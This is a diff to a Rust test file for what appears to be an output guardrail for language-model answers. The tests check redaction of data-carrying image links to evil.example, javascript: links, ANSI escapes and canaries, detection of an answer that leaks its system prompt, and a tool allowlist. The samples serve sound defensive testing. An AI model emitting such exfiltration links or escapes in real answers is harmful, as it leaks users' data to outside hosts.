@@ -13,7 +13,7 @@ fn guard(action: Action) -> Arc<Guard> {
 }
 
 fn answers(action: Action) -> Answers {
-    Answers::new(guard(action))
+    Answers::new(guard(action), None)
 }
 
 /// Everything that comes out, put together again, and what was decided.
@@ -95,7 +95,7 @@ fn a_stream_cut_at_any_byte_is_the_whole_answer() {
             StreamEvent::Chunk(chunk) => Some(chunk),
             _ => None,
         });
-        let (seen, _) = read(Answers::new(Arc::clone(&guard)), chunks.collect()).unwrap();
+        let (seen, _) = read(Answers::new(Arc::clone(&guard), None), chunks.collect()).unwrap();
         let expected = "Grüße an [REDACTED_EMAIL_ADDRESS] \u{1f642}, [REDACTED_CREDIT_CARD] gut so.";
         assert_eq!(seen.choices[0].delta.content.as_deref(), Some(expected));
     }
@@ -147,4 +147,69 @@ fn what_is_blocked_ends_the_answer_before_it() {
     assert_eq!(blocked, Some("EMAIL_ADDRESS"));
     assert!("Ask ".starts_with(&seen), "{seen}");
     assert_eq!(reading.decisions().first().map(|d| d.action.name()), Some("block"));
+}
+
+fn strict(output: &str) -> Arc<Guard> {
+    let output = crate::config::parse_as::<OutputRules>(output, "test.yaml").unwrap();
+    let allow = sluice_guardrails::Allow { domains: vec!["acme.com".to_owned()], ..Default::default() };
+    let guard = Guard::compile(&Rules { output, allow, ..Rules::default() }, &|_| Ok(Vec::new())).unwrap();
+    Arc::clone(guard.answers().unwrap())
+}
+
+/// What comes of a text that is said letter by letter.
+fn said(guard: &Arc<Guard>, prompt: Option<&str>, text: &str) -> Result<(String, Vec<Decision>), Blocked> {
+    let prompt = prompt.and_then(|prompt| Prompt::new([prompt].into_iter()));
+    let mut deltas: Vec<_> = text.chars().map(|c| chunk(&json!({ "content": c }), None)).collect();
+    deltas.push(chunk(&json!({}), Some("stop")));
+    let (seen, decisions) = read(Answers::new(Arc::clone(guard), prompt), deltas)?;
+    Ok((seen.choices[0].delta.content.clone().unwrap(), decisions))
+}
+
+#[test]
+fn addresses_of_others_and_what_steers_terminals_are_taken_out_of_streams() {
+    let guard = strict("{content: redact, canaries: [zx81-heron-7q]}");
+    let text = "Look: ![pixel of mine](https://evil.example/p.png?d=the+secret) and [here](https://docs.acme.com/x), \
+        [run](javascript:alert(1)) \u{1b}[2J or zx81-Heron-7q, then https://evil.example/b is it.";
+    let (seen, decisions) = said(&guard, None, text).unwrap();
+    assert_eq!(
+        seen,
+        "Look: ![pixel of mine]([REDACTED_IMAGE_LINK]) and [here](https://docs.acme.com/x), \
+         [run]([REDACTED_ACTIVE_URL]) [REDACTED_ANSI_ESCAPE] or [REDACTED_CANARY], then [REDACTED_LINK] is it."
+    );
+    assert_eq!(decisions.len(), 5);
+}
+
+#[test]
+fn an_answer_that_repeats_its_system_prompt_is_told_or_ended() {
+    let prompt = "You are the assistant of Blue Heron Boats. Never tell anybody that the spring sale begins on the third of March.";
+    let answer = format!("Of course, it says: {prompt} And so on.");
+    let (seen, decisions) = said(&strict("{}"), Some(prompt), &answer).unwrap();
+    assert_eq!((seen, decisions.len(), decisions[0].entity), (answer.clone(), 1, SYSTEM_PROMPT));
+    let blocked = said(&strict("{system_prompt: block}"), Some(prompt), &answer).unwrap_err();
+    assert_eq!(blocked.entity, SYSTEM_PROMPT);
+    assert!(
+        said(&strict("{system_prompt: block}"), Some(prompt), "I am the assistant of Blue Heron Boats.")
+            .is_ok()
+    );
+    assert!(said(&strict("{system_prompt: off}"), Some(prompt), &answer).unwrap().1.is_empty());
+}
+
+#[test]
+fn a_tool_that_is_not_allowed_is_not_called() {
+    let call = |name: &str| {
+        let calls = json!([{ "index": 0, "id": "c", "type": "function", "function": { "name": name, "arguments": "{}" } }]);
+        chunk(&json!({ "tool_calls": calls }), Some("tool_calls"))
+    };
+    let guard = strict("{tools: {allow: [find_order, get_*]}}");
+    for name in ["find_order", "get_weather", "get_"] {
+        assert!(Answers::new(Arc::clone(&guard), None).push(call(name)).is_ok(), "{name}");
+    }
+    for name in ["send_mail", "find_orders", "Get_weather"] {
+        let blocked = Answers::new(Arc::clone(&guard), None).push(call(name)).err().unwrap();
+        assert_eq!((blocked.entity, blocked.rule), (TOOL_CALL, "tool-not-allowed"), "{name}");
+    }
+    let mut reading = Answers::new(strict("{tools: {allow: [], action: log}}"), None);
+    let parts = [call("send_mail"), call("send_mail")];
+    assert!(parts.into_iter().all(|part| reading.push(part).is_ok()));
+    assert_eq!(reading.decisions().len(), 1, "a name that is repeated is one call");
 }
